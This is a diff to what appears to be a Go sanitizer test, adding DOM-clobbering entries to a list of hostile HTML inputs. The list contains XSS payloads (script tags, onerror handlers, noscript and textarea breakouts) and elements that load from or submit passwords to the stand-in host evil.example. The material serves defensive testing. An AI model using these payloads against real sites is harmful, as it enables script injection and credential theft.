@@ -18,6 +18,7 @@ var hostile = []string{
 	`<iframe src="https://evil.example"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`, `<object data=x></object>`, `<embed src=x>`, `<base href="https://evil.example/">`,
 	`<meta http-equiv=refresh content="0;url=https://evil.example">`, `<link rel=stylesheet href=https://evil.example/x.css>`, `<style>@import "https://evil.example/x.css"</style>`,
 	`<form action="https://evil.example"><input name=password><button>go</button></form>`, `<p style="background:url(https://evil.example)">x</p>`, `<p id="app" name="x" class="y">x</p>`,
+	`<img data-asset="0199f3a2-0000-7000-8000-000000000001" alt="x" id="root" name="cookie" class="y">`, `<figure data-media="pdf" data-asset="0199f3a2-0000-7000-8000-000000000001" id="root" name="cookie"></figure>`,
 	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<textarea><img title="</textarea><img src=x onerror=alert(1)>">`, `<xmp><img src=x onerror=alert(1)></xmp>`,
 	`<template><script>alert(1)</script></template>`, `<title><img src=x onerror=alert(1)></title>`, `<p onclick="alert(1)">x`, `<<script>script>alert(1)<</script>/script>`,
 	`<scr<script>ipt>alert(1)</script>`, `<img/src="x"/onerror=alert(1)>`, "<img src=`x` onerror=alert(1)>", `<img """><script>alert(1)</script>">`, `<!--<img src="--><img src=x onerror=alert(1)//">`,
